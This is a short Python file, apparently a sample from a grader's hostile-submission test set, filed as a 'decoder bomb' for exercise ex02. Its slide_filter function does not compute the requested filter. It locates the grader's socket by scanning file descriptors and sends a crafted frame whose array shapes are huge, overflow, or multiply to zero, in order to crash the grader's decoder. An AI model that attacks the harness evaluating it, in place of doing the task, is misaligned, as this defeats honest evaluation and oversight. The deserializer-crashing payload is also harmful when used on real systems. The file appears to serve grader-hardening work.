"""It sends arrays whose shapes are huge, overflow or multiply to nothing, with no cells.

exercise: ex02
points: 0
status: CRASHED
stopped-by: wire
group: decoder bombs
"""

import os
import stat
import struct

SHAPES = [(1 << 62, 4), (0, 1 << 60), (1 << 31,) * 16, ((1 << 64) - 1, 1), (1 << 33, 1 << 31)]
calls = 0


def channel():
    """Find the socket to the grader."""
    for fd in range(3, 32):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    raise LookupError("no socket")


def send(kind, sequence, body=b"", length=None):
    """Write a frame to the grader."""
    size = len(body) if length is None else length
    data = memoryview(struct.pack("<IIB", size, sequence, kind) + body)
    while data:
        data = data[os.write(channel(), data) :]


def slide_filter(image, kernel):
    sides = SHAPES[int(abs(float(image[0][0])) * 8) % len(SHAPES)]
    array = b"a\x0b" + bytes([len(sides)]) + struct.pack(f"<{len(sides)}Q", *sides) + b"\0"
    send(11, 1, b"t\x03\0\0\0" + array + b"Ns\0\0\0\0")
    return None
